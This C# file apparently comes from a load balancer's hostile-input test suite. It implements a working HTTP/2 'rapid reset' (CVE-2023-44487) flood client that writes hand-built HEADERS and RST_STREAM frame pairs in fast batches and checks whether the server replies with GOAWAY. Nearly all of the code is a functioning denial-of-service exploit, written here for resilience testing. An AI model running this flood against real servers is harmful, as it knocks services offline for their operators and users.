using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace LoadBalancer.Tests.Hostile;

// A CVE-2023-44487 ("HTTP/2 rapid reset") client, in raw frames on one prior-knowledge h2c
// connection: HEADERS (a complete GET, END_STREAM) then at once RST_STREAM (CANCEL) on the same
// stream, over and over, written in batches as fast as the socket takes them. The server's frames
// are read and thrown away (so it never blocks on a full window), but a GOAWAY is noted: the
// server may close the flood with one, which is the defence working.
// HPACK by hand: :method GET, :scheme http and :path / are indexed static entries (0x82, 0x86,
// 0x84); :path /flood and :authority are literals without indexing on a static name (RFC 7541 6.2.2).
public static class RapidReset
{
    const byte Headers = 0x1, RstStream = 0x3, Settings = 0x4, GoAway = 0x7;
    const byte EndStream = 0x1, EndHeaders = 0x4;
    const int Cancel = 0x8;
    const int PairsPerWrite = 250;

    public sealed record Result(int PairsSent, TimeSpan Elapsed, bool GoAwayReceived, int? GoAwayError, string? WriteError)
    {
        public double PairsPerSecond => PairsSent / Math.Max(Elapsed.TotalSeconds, 0.001);

        public override string ToString() =>
            $"{PairsSent} HEADERS+RST_STREAM pairs in {Elapsed.TotalMilliseconds:0} ms ({PairsPerSecond:0}/s); "
            + (GoAwayReceived ? $"GOAWAY error {GoAwayError}" : "no GOAWAY") + (WriteError is null ? "" : $"; writing stopped: {WriteError}");
    }

    /// <summary>Floods for <paramref name="duration"/> or until <paramref name="maxPairs"/> pairs
    /// are written, whichever comes first (the socket's back-pressure sets the pace after its
    /// buffers fill), or until the server sends GOAWAY or closes.</summary>
    public static async Task<Result> FloodAsync(Uri server, TimeSpan duration, int maxPairs)
    {
        using var tcp = new TcpClient { NoDelay = true };
        await tcp.ConnectAsync(server.Host, server.Port);
        var stream = tcp.GetStream();
        var goAway = new TaskCompletionSource<int>(TaskCreationOptions.RunContinuationsAsynchronously);
        var reader = Task.Run(() => ReadAllAsync(stream, goAway));

        var started = DateTime.UtcNow;
        var sent = 0;
        string? writeError = null;
        var block = HeaderBlock(server.Authority);
        try
        {
            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
            await stream.WriteAsync(Frame(Settings, 0, 0, []));
            var streamId = 1;
            while (sent < maxPairs && DateTime.UtcNow - started < duration && !goAway.Task.IsCompleted)
            {
                using var batch = new MemoryStream();
                for (var i = 0; i < PairsPerWrite; i++, streamId += 2)
                {
                    batch.Write(Frame(Headers, EndStream | EndHeaders, streamId, block));
                    var code = new byte[4];
                    BinaryPrimitives.WriteInt32BigEndian(code, Cancel);
                    batch.Write(Frame(RstStream, 0, streamId, code));
                }
                await stream.WriteAsync(batch.ToArray());
                sent += PairsPerWrite;
            }
        }
        catch (IOException e) // the server closed the connection on the flood: allowed
        {
            writeError = e.Message;
        }
        var elapsed = DateTime.UtcNow - started;
        tcp.Client.Shutdown(SocketShutdown.Send);
        await Task.WhenAny(reader, Task.Delay(TimeSpan.FromSeconds(5))); // its end, or give up on it
        return new Result(sent, elapsed, goAway.Task.IsCompletedSuccessfully, goAway.Task.IsCompletedSuccessfully ? goAway.Task.Result : null, writeError);
    }

    /// <summary>The same HEADERS frame without the reset, on a new connection: true when the
    /// server answers it with response HEADERS on that stream (so the flood's frames are valid
    /// requests, not a compression error the server would refuse at once).</summary>
    public static async Task<bool> AnsweredAsync(Uri server)
    {
        using var tcp = new TcpClient { NoDelay = true };
        await tcp.ConnectAsync(server.Host, server.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        await stream.WriteAsync(Frame(Settings, 0, 0, []));
        await stream.WriteAsync(Frame(Headers, EndStream | EndHeaders, 1, HeaderBlock(server.Authority)));
        var header = new byte[9];
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        while (true)
        {
            await stream.ReadExactlyAsync(header, deadline.Token);
            var payload = new byte[header[0] << 16 | header[1] << 8 | header[2]];
            await stream.ReadExactlyAsync(payload, deadline.Token);
            if (header[3] == GoAway) return false;
            if (header[3] == Headers && BinaryPrimitives.ReadInt32BigEndian(header.AsSpan(5)) == 1) return true;
        }
    }

    static byte[] HeaderBlock(string authority)
    {
        var block = new MemoryStream();
        block.Write([0x82, 0x86]); // :method GET, :scheme http
        Literal(block, 4, "/flood"); // :path
        Literal(block, 1, authority); // :authority
        return block.ToArray();
    }

    // Literal Header Field without Indexing, indexed name: 0000 + 4-bit index, then the value
    // as a plain (not Huffman) string with a 7-bit length (all ours are shorter than 127 bytes).
    static void Literal(MemoryStream block, int nameIndex, string value)
    {
        var bytes = Encoding.ASCII.GetBytes(value);
        block.WriteByte((byte)nameIndex);
        block.WriteByte((byte)bytes.Length);
        block.Write(bytes);
    }

    static byte[] Frame(byte type, byte flags, int streamId, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamId);
        payload.CopyTo(frame, 9);
        return frame;
    }

    static async Task ReadAllAsync(NetworkStream stream, TaskCompletionSource<int> goAway)
    {
        var header = new byte[9];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header);
                var length = header[0] << 16 | header[1] << 8 | header[2];
                var payload = new byte[length];
                await stream.ReadExactlyAsync(payload);
                if (header[3] == GoAway && length >= 8) goAway.TrySetResult(BinaryPrimitives.ReadInt32BigEndian(payload.AsSpan(4)));
            }
        }
        catch (Exception e) when (e is IOException or EndOfStreamException or ObjectDisposedException)
        {
            // closed: by the server after a GOAWAY, or by us at the end
        }
    }
}
